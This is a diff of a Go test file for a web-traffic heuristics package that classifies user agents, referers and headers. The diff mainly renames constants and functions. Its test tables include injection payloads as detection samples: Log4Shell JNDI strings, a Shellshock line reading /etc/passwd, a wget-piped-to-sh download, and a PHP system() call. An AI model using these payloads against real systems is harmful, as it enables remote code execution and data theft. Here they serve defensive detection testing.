@@ -15,26 +15,26 @@ func TestWhatAnAgentDeclares(t *testing.T) {
 	for agent, want := range map[string]heuristics.Finding{
 		browser: heuristics.NoFinding,
 		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1": heuristics.NoFinding,
-		"":                      heuristics.NoAgent,
-		"curl/8.5.0":            heuristics.DeclaredTool,
-		"python-requests/2.32":  heuristics.DeclaredTool,
-		"Go-http-client/2.0":    heuristics.DeclaredTool,
-		"okhttp/4.12.0":         heuristics.DeclaredTool,
+		"":                      heuristics.FindingNoAgent,
+		"curl/8.5.0":            heuristics.FindingDeclaredTool,
+		"python-requests/2.32":  heuristics.FindingDeclaredTool,
+		"Go-http-client/2.0":    heuristics.FindingDeclaredTool,
+		"okhttp/4.12.0":         heuristics.FindingDeclaredTool,
 		"Example/7 okhttp/4.12": heuristics.NoFinding,
 		"Example/7.1 CFNetwork/1399 Darwin/22.1.0":                                 heuristics.NoFinding,
-		"sqlmap/1.7.2#stable (https://sqlmap.org)":                                 heuristics.DeclaredTool,
-		"Scrapy/2.11 (+https://scrapy.org)":                                        heuristics.DeclaredTool,
-		"Mozilla/5.0":                                                              heuristics.DeclaredTool,
-		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": heuristics.DeclaredCrawler,
-		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)":        heuristics.DeclaredCrawler,
-		"Feedly/1.0 (+http://www.feedly.com/fetcher.html)":                                                              heuristics.DeclaredCrawler,
-		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36": heuristics.Headless,
-		"${jndi:ldap://192.0.2.1/a}":                heuristics.Injection,
-		"() { :; }; /bin/bash -c 'cat /etc/passwd'": heuristics.Injection,
-		browser + " ${${lower:j}ndi:dns://x}":       heuristics.Injection,
-		"x; wget http://192.0.2.1/a -O - | sh":      heuristics.Injection,
-		"<?php system('id'); ?>":                    heuristics.Injection,
-		"a\x01b":                                    heuristics.Malformed,
+		"sqlmap/1.7.2#stable (https://sqlmap.org)":                                 heuristics.FindingDeclaredTool,
+		"Scrapy/2.11 (+https://scrapy.org)":                                        heuristics.FindingDeclaredTool,
+		"Mozilla/5.0":                                                              heuristics.FindingDeclaredTool,
+		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": heuristics.FindingDeclaredCrawler,
+		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)":        heuristics.FindingDeclaredCrawler,
+		"Feedly/1.0 (+http://www.feedly.com/fetcher.html)":                                                              heuristics.FindingDeclaredCrawler,
+		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36": heuristics.FindingHeadless,
+		"${jndi:ldap://192.0.2.1/a}":                heuristics.FindingInjection,
+		"() { :; }; /bin/bash -c 'cat /etc/passwd'": heuristics.FindingInjection,
+		browser + " ${${lower:j}ndi:dns://x}":       heuristics.FindingInjection,
+		"x; wget http://192.0.2.1/a -O - | sh":      heuristics.FindingInjection,
+		"<?php system('id'); ?>":                    heuristics.FindingInjection,
+		"a\x01b":                                    heuristics.FindingMalformed,
 		"Mozilla/5.0 (Windows; U; Windows NT 5.1; id; rv:1.9) Gecko/2008052906 Firefox/3.0": heuristics.NoFinding,
 	} {
 		if got := (heuristics.Rules{}).Request(event("GET", "/", agent, "")); got != want {
@@ -69,7 +69,7 @@ func TestMalformedRequests(t *testing.T) {
 	} {
 		ev := event("GET", "/", browser, "")
 		change(ev)
-		if got := (heuristics.Rules{}).Request(ev); got != heuristics.Malformed {
+		if got := (heuristics.Rules{}).Request(ev); got != heuristics.FindingMalformed {
 			t.Errorf("%s: %v", name, got)
 		}
 	}
@@ -103,7 +103,7 @@ func TestFieldsOfTheHeader(t *testing.T) {
 		"X-Long: " + strings.Repeat("a", heuristics.MaxText) + "${jndi:": false, // out of bounds
 	} {
 		name, value, _ := strings.Cut(field, ": ")
-		if got := heuristics.FactOfField(name, value) == traffic.FactInjected; got != want {
+		if got := heuristics.FieldFacts(name, value) == traffic.FactInjected; got != want {
 			t.Errorf("%s: %v", field, got)
 		}
 	}
@@ -118,17 +118,17 @@ func TestReferers(t *testing.T) {
 		"https://x.example/%24%7Bjndi:ldap://192.0.2.1/a%7D":            true,
 		"() { :; }; echo; /bin/bash":                                    true,
 	} {
-		if got := heuristics.FactsOf("", referer, browser) == traffic.FactInjected; got != want {
+		if got := heuristics.RequestFacts("", referer, browser) == traffic.FactInjected; got != want {
 			t.Errorf("%s: %v", referer, got)
 		}
 	}
 }
 
 func TestUnknownClients(t *testing.T) {
-	nothing := heuristics.Nothing()
+	nothing := heuristics.NoHistory()
 	with := func(set map[string]float32) (h heuristics.History) {
-		h = heuristics.Nothing()
-		names, _ := heuristics.Wanted(nil)
+		h = heuristics.NoHistory()
+		names, _ := heuristics.AppendFeatures(nil)
 		for i, name := range names {
 			if v, ok := set[name]; ok {
 				h[i] = v
@@ -140,21 +140,21 @@ func TestUnknownClients(t *testing.T) {
 		history heuristics.History
 		want    heuristics.Finding
 	}{
-		"nothing":                      {nothing, heuristics.UnknownClient},
+		"nothing":                      {nothing, heuristics.FindingUnknownClient},
 		"one request":                  {with(map[string]float32{"ip/requests_1h": 1, "ip_ua/requests_1h": 1}), heuristics.NoFinding},
-		"one, an hour ago":             {with(map[string]float32{"ip/requests_1h": 0.37, "ip_ua/requests_1h": 0.37}), heuristics.UnknownClient},
+		"one, an hour ago":             {with(map[string]float32{"ip/requests_1h": 0.37, "ip_ua/requests_1h": 0.37}), heuristics.FindingUnknownClient},
 		"a flood":                      {with(map[string]float32{"ip/requests_1h": 1e6}), heuristics.NoFinding},
 		"a pair whose address is gone": {with(map[string]float32{"ip_ua/requests_1h": 50}), heuristics.NoFinding},
-		"a household":                  {with(map[string]float32{"net64/requests_10m": 90, "net64/distinct_addresses_10m": 5}), heuristics.UnknownClient},
+		"a household":                  {with(map[string]float32{"net64/requests_10m": 90, "net64/distinct_addresses_10m": 5}), heuristics.FindingUnknownClient},
 		"one that changes its address": {with(map[string]float32{"net64/requests_10m": 300, "net64/distinct_addresses_10m": 280}), heuristics.NoFinding},
 		"the same in IPv4":             {with(map[string]float32{"net/requests_10m": 100, "net/distinct_addresses_10m": 90}), heuristics.NoFinding},
-		"people behind gateways":       {with(map[string]float32{"net/requests_10m": 4000, "net/distinct_addresses_10m": 90}), heuristics.UnknownClient},
+		"people behind gateways":       {with(map[string]float32{"net/requests_10m": 4000, "net/distinct_addresses_10m": 90}), heuristics.FindingUnknownClient},
 	} {
 		if got := (heuristics.Rules{}).WithHistory(heuristics.NoFinding, event("GET", "/", browser, ""), &c.history); got != c.want {
 			t.Errorf("%s: %v, want %v", name, got, c.want)
 		}
 	}
-	if got := (heuristics.Rules{}).WithHistory(heuristics.DamningPath, event("GET", "/", browser, ""), &nothing); got != heuristics.DamningPath {
+	if got := (heuristics.Rules{}).WithHistory(heuristics.FindingDamningPath, event("GET", "/", browser, ""), &nothing); got != heuristics.FindingDamningPath {
 		t.Errorf("what is certain became %v", got)
 	}
 }
@@ -170,18 +170,18 @@ func TestWhatAPageAsksFor(t *testing.T) {
 		facts traffic.Facts
 		want  heuristics.Finding
 	}{
-		"fetch":              {"/api/cart", fetch("same-origin", "cors"), heuristics.FirstFetch},
-		"without CORS":       {"/cart", fetch("same-origin", "same-origin"), heuristics.FirstFetch},
-		"of a sister's page": {"/api/cart", fetch("same-site", "cors"), heuristics.FirstFetch},
-		"of another site":    {"/api/cart", fetch("cross-site", "cors"), heuristics.UnknownClient},
-		"a page":             {"/", fetch("none", "navigate"), heuristics.UnknownClient},
-		"without Sec-Fetch":  {"/api/cart", traffic.FactHeadersKnown | traffic.FactRefererKnown | traffic.FactReferer | traffic.FactRefererSame, heuristics.FirstFetch},
-		"XHR":                {"/cart", traffic.FactHeadersKnown | traffic.FactRefererKnown | traffic.FactReferer | traffic.FactRefererSame | traffic.FactXHR, heuristics.FirstFetch},
-		"no Referer":         {"/api/cart", traffic.FactHeadersKnown | traffic.FactRefererKnown, heuristics.UnknownClient},
+		"fetch":              {"/api/cart", fetch("same-origin", "cors"), heuristics.FindingFirstFetch},
+		"without CORS":       {"/cart", fetch("same-origin", "same-origin"), heuristics.FindingFirstFetch},
+		"of a sister's page": {"/api/cart", fetch("same-site", "cors"), heuristics.FindingFirstFetch},
+		"of another site":    {"/api/cart", fetch("cross-site", "cors"), heuristics.FindingUnknownClient},
+		"a page":             {"/", fetch("none", "navigate"), heuristics.FindingUnknownClient},
+		"without Sec-Fetch":  {"/api/cart", traffic.FactHeadersKnown | traffic.FactRefererKnown | traffic.FactReferer | traffic.FactRefererSame, heuristics.FindingFirstFetch},
+		"XHR":                {"/cart", traffic.FactHeadersKnown | traffic.FactRefererKnown | traffic.FactReferer | traffic.FactRefererSame | traffic.FactXHR, heuristics.FindingFirstFetch},
+		"no Referer":         {"/api/cart", traffic.FactHeadersKnown | traffic.FactRefererKnown, heuristics.FindingUnknownClient},
 	} {
 		ev := event("GET", c.path, browser, "")
 		ev.Facts = c.facts
-		nothing := heuristics.Nothing()
+		nothing := heuristics.NoHistory()
 		if got := (heuristics.Rules{}).WithHistory(heuristics.NoFinding, ev, &nothing); got != c.want {
 			t.Errorf("%s: %v, want %v", name, got, c.want)
 		}
@@ -199,15 +199,15 @@ func TestWhatAPageAsksForSoonAfterIt(t *testing.T) {
 		ev                       *traffic.Event
 		want                     heuristics.Finding
 	}{
-		"at once":            {12, 0.6, 1, ev, heuristics.FirstFetch},
+		"at once":            {12, 0.6, 1, ev, heuristics.FindingFirstFetch},
 		"another page":       {12, 0.6, 1, page, heuristics.NoFinding},
 		"later":              {12, 60, 1, ev, heuristics.NoFinding},
 		"in masses":          {400, 0.6, 1, ev, heuristics.NoFinding},
 		"from a new address": {0, 0, 90, ev, heuristics.NoFinding},
 	} {
-		h := heuristics.Nothing()
+		h := heuristics.NoHistory()
 		h[0], h[1] = c.requests, c.age
-		names, _ := heuristics.Wanted(nil)
+		names, _ := heuristics.AppendFeatures(nil)
 		h[slices.Index(names, "net64/requests_10m")], h[slices.Index(names, "net64/distinct_addresses_10m")] = c.addresses, c.addresses
 		if got := (heuristics.Rules{}).WithHistory(heuristics.NoFinding, c.ev, &h); got != c.want {
 			t.Errorf("%s: %v, want %v", name, got, c.want)
@@ -231,7 +231,7 @@ func TestSwitchedOff(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		nothing := heuristics.Nothing()
+		nothing := heuristics.NoHistory()
 		return r.WithHistory(r.Request(ev), ev, &nothing).String()
 	}
 	for _, name := range heuristics.Names() {
@@ -248,12 +248,12 @@ func TestSwitchedOff(t *testing.T) {
 }
 
 func TestWanted(t *testing.T) {
-	names, places := heuristics.Wanted([]string{"ip/gap_mean", "net/requests_10m"})
+	names, places := heuristics.AppendFeatures([]string{"ip/gap_mean", "net/requests_10m"})
 	values := make([]float32, len(names))
 	for i := range values {
 		values[i] = float32(i)
 	}
-	own, _ := heuristics.Wanted(nil)
+	own, _ := heuristics.AppendFeatures(nil)
 	for i, v := range places.History(values) {
 		if names[int(v)] != own[i] {
 			t.Errorf("%s is read from the place of %s", own[i], names[int(v)])
@@ -262,7 +262,7 @@ func TestWanted(t *testing.T) {
 	if names[0] != "ip/gap_mean" || names[1] != "net/requests_10m" || len(names) != 1+len(own) {
 		t.Errorf("%q", names)
 	}
-	for i, v := range heuristics.Nothing() {
+	for i, v := range heuristics.NoHistory() {
 		if !math.IsNaN(float64(v)) {
 			t.Errorf("%s of nobody is %v", own[i], v)
 		}
@@ -275,14 +275,14 @@ func TestRequestAllocatesNothing(t *testing.T) {
 		events = append(events, event("GET", fmt.Sprintf("/a/%%2e/b%d.php", i), fmt.Sprint(browser, i), ""))
 	}
 	next := 0
-	nothing := heuristics.Nothing()
+	nothing := heuristics.NoHistory()
 	if n := testing.AllocsPerRun(len(events)-1, func() {
 		var r heuristics.Rules
 		ev := events[next]
 		next++
 		r.WithHistory(r.Request(ev), ev, &nothing)
-		heuristics.FactsOf("id=1%20and%20b&q=x'y", "https://x.example/?q=%3C", ev.UserAgent)
-		heuristics.FactOfField("X-A", "$b")
+		heuristics.RequestFacts("id=1%20and%20b&q=x'y", "https://x.example/?q=%3C", ev.UserAgent)
+		heuristics.FieldFacts("X-A", "$b")
 	}); n != 0 {
 		t.Errorf("%v allocations", n)
 	}
@@ -304,7 +304,7 @@ func FuzzRequest(f *testing.F) {
 			t.Errorf("%q, %q, %q: %v, then %v", target, agent, referer, found, again)
 		}
 		path, _ := traffic.SplitTarget(target)
-		if found != heuristics.DamningPath || !strings.HasPrefix(path, "/") || strings.ContainsAny(path, "%") || 3*len(path) > traffic.MaxPath {
+		if found != heuristics.FindingDamningPath || !strings.HasPrefix(path, "/") || strings.ContainsAny(path, "%") || 3*len(path) > traffic.MaxPath {
 			return
 		}
 		escaped := "/"
@@ -341,7 +341,7 @@ func BenchmarkFactsOf(b *testing.B) {
 		b.Run(name, func(b *testing.B) {
 			b.ReportAllocs()
 			for b.Loop() {
-				heuristics.FactsOf(query, "https://www.example.org/articles/", browser)
+				heuristics.RequestFacts(query, "https://www.example.org/articles/", browser)
 			}
 		})
 	}
